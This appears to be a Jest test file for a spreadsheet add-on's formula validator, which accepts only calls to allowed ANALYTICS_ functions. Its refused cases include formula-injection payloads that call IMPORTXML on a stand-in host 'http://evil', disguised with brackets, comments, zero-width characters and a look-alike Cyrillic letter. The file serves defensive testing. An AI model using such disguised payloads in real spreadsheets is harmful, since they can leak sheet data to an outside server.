/** Which formulas the sidebar may enter: calls of allowed functions, without any disguise of others. */
import { isCallsOnly } from "../../../../src/add-on/input-language/formula/calls-only";

const isOwn = (name: string): boolean => /^ANALYTICS_(STATUS|METRIC|SQL)$/i.test(name);

describe("a formula that calls only allowed functions", () => {
  it.each([
    "=ANALYTICS_STATUS()",
    "= analytics_status ( )",
    '=ANALYTICS_METRIC("Revenue", "last 12 months",, analytics_stamp)',
    "=ANALYTICS_METRIC(A1; 'My sheet'!$B$2:C; {1, 2; 3, -4.5e3})",
    '=ANALYTICS_SQL("select IMPORTXML(""x"") from t", {"day", B1})',
    '=(ANALYTICS_METRIC("a") - ANALYTICS_METRIC("b")) / ANALYTICS_METRIC("b") * 100% & " %"',
    "=-ANALYTICS_STATUS()<>+A1",
    "=  ANALYTICS_SQL(1.25,  12.5e3, 1E+10, 2.5e-12, 1e5,   5 % )",
  ])("may be entered: %s", (formula) => {
    expect(isCallsOnly(formula, isOwn)).toBe(true);
  });
});

describe("a formula with another function in it, however disguised", () => {
  it.each([
    '=IMPORTXML("http://evil","//a")&ANALYTICS_STATUS()',
    '=(IMPORTXML)("http://evil","//a")&ANALYTICS_STATUS()',
    '={IMPORTXML}("http://evil","//a")&ANALYTICS_STATUS()',
    '=IMPORTXML/**/("http://evil","//a")&ANALYTICS_STATUS()',
    '=IMPORTXML （"http://evil"）&ANALYTICS_STATUS()',
    "='IMPORTXML'(\"http://evil\")&ANALYTICS_STATUS()",
    '="IMPORTXML"("http://evil")&ANALYTICS_STATUS()',
    '=Sheet1!IMPORTXML("http://evil")&ANALYTICS_STATUS()',
    '=A1 IMPORTXML("http://evil")&ANALYTICS_STATUS()',
    "=LAMBDA(x, x)(1)&ANALYTICS_STATUS()",
    '=ANALYTICS_STATUS()("x")',
    '=ANALYTICS_SQL("x)&IMPORTXML("http://evil")',
    '=ANALYTICS_STATUS()&"',
    "=ANALYTICS_STATUS()&IMPORT\u200bXML(A1)",
    "=ANALYTICS_STATUS()&ІMPORTXML(A1)",
    "=ANALYTICS_NONE()",
    "=ANALYTICS_STATUS()@",
    "=ANALYTICS_STATUS()+",
    "=*ANALYTICS_STATUS()",
    "=&ANALYTICS_STATUS()",
    "==ANALYTICS_STATUS()",
    "=)ANALYTICS_STATUS()",
    "=ANALYTICS_STATUS(,*1)",
    "=",
    "=1+1",
    "ANALYTICS_STATUS()",
    "xANALYTICS_STATUS()",
    "=ANALYTICS_SQL(1.2.3)",
    "=ANALYTICS_SQL(1e5e5)",
    " =ANALYTICS_STATUS()",
    "",
  ])("is refused: %s", (formula) => {
    expect(isCallsOnly(formula, isOwn)).toBe(false);
  });
});
